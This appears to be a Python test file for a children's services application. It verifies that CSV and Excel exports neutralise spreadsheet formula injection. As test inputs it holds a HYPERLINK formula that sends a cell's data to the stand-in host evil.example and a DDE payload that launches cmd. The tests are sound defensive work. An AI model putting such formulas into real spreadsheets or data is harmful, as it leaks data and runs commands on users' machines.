"""Spreadsheet and CSV downloads neutralise formula injection: a cell that starts with =, +,
-, @, a tab or a carriage return (a child's name, a setting's name, a line of an imported SEN2
or DfE file) is written so that Excel or LibreOffice shows it as text and never runs it."""

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from everychild.core.spreadsheets import FORMULA_STARTS, neutralise
from everychild.finance import export
from everychild.finance.management_plan import management_plan
from everychild.performance.views import _csv_response
from everychild.returns.sen2.validate import CSVReport, Failure

PACKAGE = Path(__file__).resolve().parents[1] / "everychild"
ATTACK = '=HYPERLINK("https://evil.example/?"&A1,"Open")'


@given(st.sampled_from(FORMULA_STARTS), st.text())
def test_a_cell_that_could_be_a_formula_is_written_as_text(first, rest):
    assert neutralise(first + rest) == "'" + first + rest


@given(st.text().filter(lambda t: not t.startswith(FORMULA_STARTS)))
def test_any_other_text_is_unchanged(text):
    assert neutralise(text) == text


@pytest.mark.parametrize("value", [-5, 3.5, None, dt.date(2026, 1, 1)])
def test_numbers_and_dates_are_unchanged(value):
    assert neutralise(value) is value


def test_every_csv_and_workbook_writer_goes_through_the_core_helper():
    """A writer added later cannot forget: csv.writer only in core.spreadsheets, and every
    module that builds an openpyxl workbook neutralises it."""
    found = []
    for path in PACKAGE.rglob("*.py"):
        if "tests" in path.parts or path.name == "spreadsheets.py":
            continue
        source = path.read_text(encoding="utf-8")
        if re.search(r"csv\.(writer|DictWriter)\(", source):
            found.append(f"{path}: csv writer not from core.spreadsheets")
        if "Workbook(" in source and "neutralise_workbook(" not in source:
            found.append(f"{path}: workbook not neutralised")
    assert found == []


def _csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_a_performance_csv_cell_is_not_a_formula():
    response = _csv_response("x.csv", ["name", "value"], [[ATTACK, 3], ["-1+1", -1]])
    rows = _csv_cells(response.content.decode())
    assert rows[1] == ["'" + ATTACK, "3"]
    assert rows[2] == ["'-1+1", "-1"]


def test_the_sen2_report_does_not_carry_a_formula_from_the_file():
    out = io.StringIO()
    report = CSVReport(out)
    report.add(
        Failure(
            code="X1",
            severity="error",
            message="Bad value",
            detail=ATTACK,
            module="Person",
            field=None,
            person=1,
            person_label="@SUM(1+1)*cmd|' /C calc'!A0",
            subpath="Person/UPN",
            line=7,
        )
    )
    [_, row] = _csv_cells(out.getvalue())
    assert row[3] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row[7] == "'" + ATTACK


@pytest.mark.django_db
def test_the_dsg_management_plan_workbook_holds_no_formula(area):
    area.name = ATTACK
    plan = management_plan(area, None, dt.date(2026, 11, 1))
    book = load_workbook(io.BytesIO(export.workbook(plan)))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert "'" + ATTACK in {cell.value for cell in cells}
